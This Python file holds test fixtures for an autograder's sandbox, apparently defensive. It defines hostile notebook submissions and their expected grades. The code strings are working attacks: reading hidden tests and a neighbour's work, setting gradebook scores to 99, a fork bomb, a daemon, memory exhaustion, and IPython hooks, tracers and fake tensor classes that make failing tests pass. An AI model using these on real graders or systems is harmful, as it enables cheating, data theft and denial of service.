"""Hostile submissions (lab 00, the cheapest lab to grade): code that wants the answers, the grades or the machine.

Each must be graded as its honest work deserves and get nothing else: tests/test_sandbox.py checks what they
report, what they leave behind and what the feedback shows. They run only sandboxed (tests/grading_run.py grades
the corpus with SANDBOX_LIMITS); unconfined they would do what they say. Seven submissions hold every behaviour
(each grading costs CI its time), with disjoint lost cells or reasons that tell the attacks apart:

- "hostile": its ping_pong and ring_shift deadlock in every launch (it is graded in bounded time: once its
  launches have hung for the hang budget, the rest fail at once), and it keeps exercises 0.2 and 0.4. Its first
  exercise cell walks up from its working folder and from utils.__file__ reading every notebook, gradebook and
  test it finds (the answers, a neighbour's submission), writes a file into every folder it reaches and 99 points
  into every gradebook, starts a double-forked daemon in a new session with an emptied environment that writes
  files 15 s later, connects to a TEST-NET address (192.0.2.1, RFC 5737: must fail at once) and holds nbgrader's
  hidden-test marker as text; it prints one REPORT line of what it managed. Its last exercise cell allocates more
  than the memory bound in the kernel (the allocation fails there; the kernel lives on), and a cell of its own at
  the end of the notebook is a fork bomb whose children sleep (it reports how far it got).
- "memory_hog": the kernel holds 0.6 of the memory bound in a /dev/shm file and ring_shift's ranks each take 0.4 of
  it (together more than the bound): a rank is stopped (by the out-of-memory killer, or at its launch's time limit
  when reclaiming at the bound slowed it), test_ring_shift is lost, and the report says "used more than 4 GB:
  stopped". It also carries lab 00's wrong results (exercises 0.2 and 0.4, tests/labs/lab00/corpus.py), which cost
  exactly their points.
- "shown_result" and "reached_shell", on the untouched release: issue 43's routes, each on a test cell of its own
  (below).
- "tracer", on the untouched release: a tracer (test_size_for_share) and a profiler (test_fit_alpha_beta) armed by
  the function under test, during the test, that change what the failing assertions read and turn themselves off
  before the marker.
- "transformer" and "swallower", on the untouched release (an honest 0 of 11; both got 11 before
  autograder/execution.py): the first adds an IPython input transformer that turns every later cell into `pass`,
  except test_ring_shift, cut to its last line; the second swallows every failure (a custom exception handler, a
  post_run_cell hook that clears the error, stderr to /dev/null), echoes every cell it runs (the hidden tests)
  from a pre_run_cell hook, makes size_for_share raise its caller's source, and at the end prints IPython's
  history and the notebook being run, shows a Markdown output naming a missing attachment and floods its output.
  Neither runs a launch: they cost little to grade.
"""

from __future__ import annotations

import json

from autograder.sandbox import Limits
from tests.corpus.common import (
    ROOT,
    Case,
    Edit,
    Notebook,
    append,
    body,
    cells,
    chain,
    own_cell,
    prepend,
    solution_notebook,
)
from tests.labs.lab00.corpus import ASSIGNMENT as ASSIGNMENT  # the lab these submissions are written for
from tests.labs.lab00.corpus import SEND_FIRST, WRONG_RESULTS, WRONG_RESULTS_LOSE, WRONG_RESULTS_SAY

# The grading run's: below CI's memory, above a lab's; a hang budget of one hung launch of lab 00's tests (20 s) and
# its deadlock demo (2 s), so that a submission that deadlocks everywhere costs CI one hang, not three.
SANDBOX_LIMITS = Limits(memory_bytes=4 << 30, processes=512, hang_budget_s=20)
FLOOD_WORD, FLOOD_CHARS = "flood ", 3_000_000  # printed at once: 30 times the output kept of a cell
UPDATE_CHARS = 5_000_000  # a display updated to this size: 50 times the output kept of a cell
TOKEN = "hostile-was-here"  # the name of every file the hostile code writes, and a word in its daemon's command line
REPORT = "hostile report: "

READ_AND_WRITE = f'''
# ### BEGIN HIDDEN TESTS  <- nbgrader's marker, as text in a student's cell: the feedback must still be made
import json as _json
import os as _os
import pathlib as _pathlib
import socket as _socket
import sqlite3 as _sqlite3
import sys as _sys
import time as _time

import utils as _utils

_token, _found, _wrote, _targets = "{TOKEN}", [], [], set()
_starts = [_pathlib.Path.cwd(), _pathlib.Path(_utils.__file__).resolve().parent]
_repo = _starts[1].parent
for _start in _starts:
    _targets.update([_start, *_start.parents])
_targets.update([_repo / "solutions", _repo / "utils", _pathlib.Path("/tmp")])


def _grab(path):
    """Read a file that may hold answers or grades; rewrite every gradebook's scores."""
    if path.name == "gradebook.db" or path.suffix == ".db":
        try:
            with _sqlite3.connect(path) as db:
                db.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
            _wrote.append(str(path))
        except Exception:
            pass
    try:
        if path.stat().st_size > 1 << 20:  # answers and grades are small: a library read whole only costs time
            return
        text = path.read_text(errors="replace")
    except OSError:
        return
    if "BEGIN HIDDEN" + " TESTS" in text or "BEGIN SOL" + "UTION" in text or path.suffix == ".ipynb":
        _found.append(str(path))
        print(text[:20000])  # into the autograded notebook and the feedback, if it could read it


_seen = 0
for _top in sorted(_targets, key=lambda p: -len(p.parts)):
    for _dir, _subdirs, _files in _os.walk(_top):
        _seen += len(_files)
        if _seen > 20000 or _dir.startswith(("/proc", "/sys", "/usr", "/dev")):
            _subdirs[:] = []
            continue
        _targets.add(_pathlib.Path(_dir))
        for _name in _files:
            _grab(_pathlib.Path(_dir, _name))
for _target in _targets:
    try:
        (_target / _token).write_text("written during grading")
        _wrote.append(str(_target))
    except OSError:
        pass

# A daemon: double fork, new session, empty environment; it writes everywhere 15 s later.
_late = f"import pathlib, time\\ntime.sleep(15)\\nfor d in {{sorted(map(str, _targets))!r}}:\\n" \\
        f"    try: pathlib.Path(d, {{_token!r}} + '-late').write_text('late')\\n    except OSError: pass\\n"
if (_child := _os.fork()) == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execve(_sys.executable, [_sys.executable, "-c", _late, _token], {{}})
    _os._exit(0)
_os.waitpid(_child, 0)

_t0 = _time.monotonic()
try:
    _socket.create_connection(("192.0.2.1", 80), timeout=5).close()  # TEST-NET-1: never routed
    _net = "connected"
except OSError as _e:
    _net = f"{{type(_e).__name__}} errno {{_e.errno}}"
print("{REPORT}" + _json.dumps({{"found": _found, "wrote": _wrote, "net": _net,
                                "net_seconds": _time.monotonic() - _t0}}))
'''

FORK_BOMB = f'''
import os as _os
import time as _time

_forks = 0
try:
    while _forks < 100000:
        if _os.fork() == 0:
            _time.sleep(3600)  # sleeps until grading ends it
            _os._exit(0)
        _forks += 1
except OSError as _e:
    print("{REPORT}" + f"fork bomb: {{_forks}} forks, then {{type(_e).__name__}}")
'''

# The memory_hog case: the kernel first fills 0.6 of the bound with a file in its private /dev/shm (a tmpfs: memory
# of the submission's cgroup that no process's data limit counts and that nothing can reclaim without swap), then
# each of ring_shift's ranks takes 0.4 of it. So the ranks reach the bound after a few hundred MB of their own: they
# are not racing their launch's 20 s limit on a loaded machine, as ranks that had to fill the whole bound were.
HOG_BALLAST = f"""import os as _os
with open("/dev/shm/ballast", "wb") as _ballast:  # the sandbox's own tmpfs, charged to the submission's memory
    _os.posix_fallocate(_ballast.fileno(), 0, int(0.6 * {SANDBOX_LIMITS.memory_bytes}))
"""
HOG_RANKS = f"""hog = torch.ones(int(0.4 * {SANDBOX_LIMITS.memory_bytes}) // 4)  # float32: 0.4 of the bound, each rank
"""
HOG_KERNEL = f'''
_cache = torch.ones(int(1.2 * {SANDBOX_LIMITS.memory_bytes}) // 4)  # in the kernel: more than the whole bound
'''
PING_DEADLOCK = '''rank, world = dist.get_rank(), dist.get_world_size()
dist.send(torch.zeros(1), dst=(rank + 1) % world)  # every rank sends first: Gloo waits for the matching recv
dist.recv(torch.zeros(1), src=(rank - 1) % world)
return 1.0 if rank == 0 else None
'''


# ---- code that changes how the kernel runs the hidden tests (autograder/execution.py), on the untouched release ---

# Every later cell runs as `pass`, except cells with the word "world" in them (lab 00's test_ring_shift, which names
# the world size), which keep only their last line: the next step once the first is caught.
TRANSFORMER = """
def _skip(lines):
    return [lines[-1]] if any("world" in line for line in lines) else ["pass\\n"]


get_ipython().input_transformers_cleanup.append(_skip)
"""
# Failures swallowed (a custom exception handler, a post_run_cell hook that clears the error, stderr to /dev/null),
# and every route to the hidden tests' text printed: a pre_run_cell hook's raw_cell, the exception's text.
SWALLOW = f"""
import os as _os
import sys as _sys


def _quiet(shell, etype, value, tb, tb_offset=None):
    print("{REPORT}swallowed", etype.__name__, value)


def _clear(result):
    result.error_in_exec = None


def _echo(info):
    print("{REPORT}raw cell:", info.raw_cell)


_ip = get_ipython()
_ip.set_custom_exc((BaseException,), _quiet)
_ip.events.register("post_run_cell", _clear)
_ip.events.register("pre_run_cell", _echo)
_sys.stderr = open(_os.devnull, "w")
"""
# size_for_share raises an error whose text is its caller's source (the test cell, through linecache).
CALLER_SOURCE = """import linecache as _lc
import sys as _s
_f = _s._getframe(1)
raise ValueError("".join(_lc.getlines(_f.f_code.co_filename)))
"""
# At the end: IPython's history, the notebook being run (its folder holds it, hidden tests restored), a Markdown
# output naming an attachment that does not exist (it stopped the whole class's feedback), and an output flood.
EXFILTRATE = f"""
import pathlib as _pathlib

print("{REPORT}history:", "\\n".join(In))
for _nb in _pathlib.Path.cwd().glob("*.ipynb"):
    print("{REPORT}notebook:", _nb.read_text())
from IPython.display import Markdown as _Markdown, display as _display
_display(_Markdown("![x](attachment:pingpong.png)"))
print("{FLOOD_WORD}" * {FLOOD_CHARS // len(FLOOD_WORD)})
"""


# ---- code that makes a test cell's verdict something else than its assertions (issue 43), on the release ------------
# Each route acts on one test cell, named in its comment, and is set up in the exercise cell just before that test,
# so that the cells before it are graded as alone. Unguarded, every route gains its cell's points.

# test_ping_pong: rank 0 returns an object whose unpickling in the kernel shows "passed" as the cell's result, which
# nbgrader reads as full points whatever error follows.
REDUCED_RESULT = """class _Passed:
    def __reduce__(self):
        return exec, ("import sys; sys.displayhook('passed')",)


return _Passed() if dist.get_rank() == 0 else None
"""
# test_fit_alpha_beta: a daemon thread shows "passed" once in the request that runs the test; the fit takes its time
# to fail, so that the result comes first.
PUBLISHER = """
import sys as _sys
import threading as _threading
import time as _time


def _publish():
    shell, shown = _sys.displayhook.shell, set()
    while True:
        _time.sleep(0.005)
        parent = shell.kernel.get_parent("shell")
        if "fit_alpha_beta(_n" in parent.get("content", {}).get("code", "") and parent["header"]["msg_id"] not in shown:
            shown.add(parent["header"]["msg_id"])
            _sys.displayhook("passed")


_threading.Thread(target=_publish, daemon=True).start()
"""
SLOW_FAILURE = """import time as _time
_time.sleep(2)
raise ValueError("no fit")
"""
# test_ring_shift: a tensor subclass that tells torch.equal it is equal to anything, returned by every rank (a class
# of the notebook's: the kernel finds it by name).
LIAR = """
class _Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func is torch.equal:
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
"""
RETURN_LIAR = "return torch.zeros_like(tensor).as_subclass(_Liar)\n"
# test_size_for_share: the function shows "passed" as the cell's result, then fails.
SHOWN = """import sys as _sys
_sys.displayhook("passed")
raise ValueError("no size")
"""
# At the end: the newest test cell in IPython's source cache, read through tracemalloc's linecache (no flagged
# import), printed in base64 where the scrub cannot read it; and a display updated to 5 MB (updates were not counted).
LINECACHE_LEAK = f"""
import base64 as _base64
import tracemalloc as _tracemalloc

_tests = ["".join(e[2]) for e in _tracemalloc.linecache.cache.values() if e[1] is None
          and any("__graded_cell_end__" in line for line in e[2])]
print("{REPORT}linecache:", _base64.b64encode("\\n".join(_tests).encode()).decode())
from IPython.display import display as _display, update_display as _update
_display("small", display_id="grows")
_update("{FLOOD_WORD}" * {UPDATE_CHARS // len(FLOOD_WORD)}, display_id="grows")
"""

# test_ping_pong: the shell (reached by quit._ip, no flagged name) gets a transform_ast that keeps only the marker of
# the cells that call ping_pong.
ONLY_THE_MARKER = """
import ast as _ast

_shell = quit._ip
_transform = _shell.transform_ast


def _keep_marker(node):
    if "ping_pong" in _ast.unparse(node):
        node.body = node.body[-1:]
    return _transform(node)


_shell.transform_ast = _keep_marker
"""
# test_fit_alpha_beta: failures swallowed in the cell that tests the fit (custom_exceptions and CustomTB set on the
# shell directly, a post_run_cell hook that clears the error), and a seal of its own, shadowing the grader's, computed
# as the grader computed it.
SWALLOW_AND_SEAL = """
import hashlib as _hashlib
import types as _types

from IPython.core.inputtransformer2 import TransformerManager as _Manager

_shell = exit._ip


def _target(code):
    return "fit_alpha_beta(_n" in code


def _arm(info):
    _shell.custom_exceptions = (BaseException,) if _target(info.raw_cell) else ()


def _clear(result):
    if _target(result.info.raw_cell):
        result.error_in_exec = None


_shell.CustomTB = _types.MethodType(lambda self, etype, value, tb, tb_offset=None: None, _shell)
_shell.events.register("pre_run_cell", _arm)
_shell.events.register("post_run_cell", _clear)


def __graded_cell_seal__(secret):
    sent = _shell.kernel.get_parent("shell")["content"]["code"]
    text = "".join(line + "\\n" for line in _Manager().transform_cell(sent).splitlines())
    digest = _hashlib.sha256(text.encode()).hexdigest()
    return _hashlib.sha256(f"{secret}:{digest}:clean".encode()).hexdigest()
"""
# test_size_for_share: a tracer armed by the function under test (n_1/2 for every share) when the test first calls it,
# so during the test cell, and turned off at the marker's line, before it runs. Before each failing assertion it
# changes what the assertion reads: at the top level the name it compares becomes what it is compared with; inside
# the hidden loop the size under test becomes one bisected on the test's own _share_at. (Jumping past a failing
# statement gets nowhere: IPython runs each top-level statement as a code object of its own, and a loop's last one
# has no line after it to jump to.) Unguarded, the test passes.
TRACER = """
import ast as _ast
import linecache as _linecache
import sys as _sys


def _value(frame, node):
    return eval(compile(_ast.Expression(node), "<check>", "eval"), frame.f_globals, frame.f_locals)


def _fails(frame, test):
    try:
        return not _value(frame, test)
    except Exception:
        return True


def _bisected(g):
    low, high = 0.0, 1.0
    while g["_share_at"](high, g["_alpha"], g["_beta"]) < g["_share"]:
        high *= 2
    for _ in range(200):
        middle = (low + high) / 2
        low, high = (middle, high) if g["_share_at"](middle, g["_alpha"], g["_beta"]) < g["_share"] else (low, middle)
    return high


def _step(frame, event, arg):
    lines = _linecache.getlines(frame.f_code.co_filename)
    if event != "line" or not lines:
        return _step
    if "__graded_cell_end__" in lines[frame.f_lineno - 1]:  # off before the marker runs
        _sys.settrace(None)
        return None
    tree = _ast.parse("".join(lines))
    for node in _ast.walk(tree):
        if isinstance(node, _ast.Assert) and node.lineno == frame.f_lineno and _fails(frame, node.test):
            if node in tree.body:  # a statement of the top level: make its comparison hold
                test = node.test
                name, value = (test.left, test.comparators[0]) if isinstance(test, _ast.Compare) else test.args[:2]
                frame.f_globals[name.id] = _value(frame, value)
            else:
                frame.f_globals["_n"] = _bisected(frame.f_globals)
    return _step


def _watch(frame, event, arg):
    return _step if "size_for_share(0.9" in "".join(_linecache.getlines(frame.f_code.co_filename)) else None
"""
ARM_TRACER = "_sys.settrace(_watch)\nreturn alpha / beta\n"
# test_fit_alpha_beta: a profiler armed by fit_alpha_beta (which returns a wrong fit) when the test calls it. At the
# next call it swaps numpy in the notebook's namespace for one whose closeness checks all hold, and the tests'
# raises_value_error for one that always says "ValueError"; at the call of the marker it puts both back and turns
# itself off, so that the marker finds the namespace and the interpreter as they were. Unguarded, the test passes.
PROFILER = """
import linecache as _linecache
import sys as _sys

_names, _kept = globals(), {}


class _Lenient:
    def __init__(self, module):
        self._module = module

    def __getattr__(self, name):
        if name in ("allclose", "isclose", "all"):
            return lambda *args, **kwargs: True
        return getattr(self._module, name)


def _profile(frame, event, arg):
    if event != "call" or frame.f_back is None:
        return
    if "__graded_cell_end__" in _linecache.getline(frame.f_back.f_code.co_filename, frame.f_back.f_lineno):
        _names.update(_kept)
        _kept.clear()
        _sys.setprofile(None)
    elif not _kept:
        _kept.update(np=_names["np"], raises_value_error=_names["raises_value_error"])
        _names.update(np=_Lenient(_kept["np"]), raises_value_error=lambda function, *args: "ValueError")
"""
ARM_PROFILER = "_sys.setprofile(_profile)\nreturn 1.0, 1.0\n"

# test_ring_shift: torch.equal replaced through the module's namespace (no attribute assignment), and zeros returned.
EQUAL_BY_VARS = "vars(torch).update(equal=lambda *args, **kwargs: True)\n"
ZEROS = "return torch.zeros_like(tensor)\n"


def on_release(*edits: Edit) -> Edit:
    """The untouched release (an honest 0) with `edits` applied: the exercises' stubs stay."""
    def make(nb: Notebook) -> Notebook:
        nb = json.loads((ROOT / "course" / ASSIGNMENT / solution_notebook(ASSIGNMENT).name).read_text())
        for edit in edits:
            nb = edit(nb)
        return nb
    return make


def cell_after(grade: str, code: str) -> Edit:
    """A code cell of the student's own right after cell `grade`."""
    def make(nb: Notebook) -> Notebook:
        at = nb["cells"].index(cells(nb)[grade]) + 1
        nb["cells"].insert(at, own_cell("code", code))
        return nb
    return make


def stub_body(grade: str, code: str) -> Edit:
    """Replace the stub of the release's exercise cell `grade` (from "# YOUR CODE HERE" on) by `code`."""
    def make(nb: Notebook) -> Notebook:
        cell = cells(nb)[grade]
        src = "".join(cell["source"])
        at = src.index("# YOUR CODE HERE")
        indent = src[src.rindex("\n", 0, at) + 1:at]
        cell["source"] = src[:at] + indent.join(code.splitlines(keepends=True))
        return nb
    return make


def cell_at_end(code: str) -> Edit:
    """A code cell of the student's own after every other cell (nothing runs after it)."""
    def make(nb: Notebook) -> Notebook:
        nb["cells"].append(own_cell("code", code))
        return nb
    return make


ALL_TESTS = frozenset({"test_ping_pong", "test_fit_alpha_beta", "test_ring_shift", "test_size_for_share"})

CASES = [
    Case("hostile", chain(body("ping_pong", PING_DEADLOCK), append("ping_pong", READ_AND_WRITE),
                          body("ring_shift", SEND_FIRST), append("size_for_share", HOG_KERNEL),
                          cell_at_end(FORK_BOMB)),
         loses={"test_ping_pong", "test_ring_shift"},
         says=("did not finish within 30 s", "already hung", "test_ring_shift (4 points) failed")),
    Case("memory_hog", chain(append("ring_shift", HOG_BALLAST), prepend("ring_shift", HOG_RANKS), WRONG_RESULTS),
         loses={"test_ring_shift", *WRONG_RESULTS_LOSE},
         says=(f"used more than {SANDBOX_LIMITS.memory_words()}: stopped", "test_ring_shift (4 points) failed",
               *WRONG_RESULTS_SAY)),
    Case("transformer", on_release(cell_after("setup", TRANSFORMER)), loses=ALL_TESTS, flagged=True,
         says=("test_ping_pong did not run to its end as written (it stopped before its end",
               "test_ring_shift did not run to its end as written (what ran was not the cell as written",
               "uses get_ipython")),
    Case("swallower", on_release(cell_after("setup", SWALLOW), stub_body("size_for_share", CALLER_SOURCE),
                                 cell_at_end(EXFILTRATE)), loses=ALL_TESTS, flagged=True,
         says=("test_fit_alpha_beta did not run to its end as written (it stopped before its end",
               "printed more than 100 kB: its output was cut there", "uses .set_custom_exc", "imports linecache")),
    # Issue 43's routes, two submissions (each route on its own test cell): what a test cell shows is no grade, a
    # rank's result is data, and the shell, the interpreter and the modules are compared with the kernel's own.
    Case("shown_result", on_release(stub_body("ping_pong", REDUCED_RESULT), cell_after("fit_alpha_beta", PUBLISHER),
                                    stub_body("fit_alpha_beta", SLOW_FAILURE), stub_body("ring_shift", RETURN_LIAR),
                                    cell_after("ring_shift", LIAR), stub_body("size_for_share", SHOWN),
                                    cell_at_end(LINECACHE_LEAK)),
         loses=ALL_TESTS, flagged=True,
         says=("test_ping_pong (3 points) failed: TypeError: rank 0 returned an object that names builtins.exec",
               "test_ring_shift (4 points) failed: TypeError: rank 0 returned an object that names "
               "torch._tensor._rebuild_from_type_v2", "test_size_for_share showed a result or a display",
               "defines __reduce__", "defines __torch_function__", "imports threading")),
    Case("reached_shell", on_release(cell_after("ping_pong", ONLY_THE_MARKER), cell_after("fit_alpha_beta",
                                                                                          SWALLOW_AND_SEAL),
                                     stub_body("ring_shift", ZEROS), cell_after("ring_shift", EQUAL_BY_VARS)),
         loses=ALL_TESTS, flagged=True,
         says=("test_ping_pong did not run to its end as written (what ran was not the cell as written",
               "test_ring_shift did not run to its end as written (what ran was not the cell as written",
               "uses ._ip", "uses .transform_ast", "defines __graded_cell_seal__", "reads the namespace of the module "
               "torch", "uses .events")),
    # A tracer and a profiler, each armed by the function under test during its test and off before the marker, on
    # the release where nothing else changes how the kernel runs (another route's hook would seal the cell "hooked"
    # whatever the tracer did). Unguarded, both tests pass (4 points).
    Case("tracer", on_release(stub_body("fit_alpha_beta", ARM_PROFILER), cell_after("fit_alpha_beta", PROFILER),
                              stub_body("size_for_share", ARM_TRACER), cell_after("size_for_share", TRACER)),
         loses=ALL_TESTS, flagged=True,
         says=("test_fit_alpha_beta (3 points) failed: NotRunAsWritten: this test did not run to its end as written",
               "test_size_for_share (1 points) failed: NotRunAsWritten: this test did not run to its end as written",
               "uses .setprofile", "uses .settrace", "imports linecache")),
]
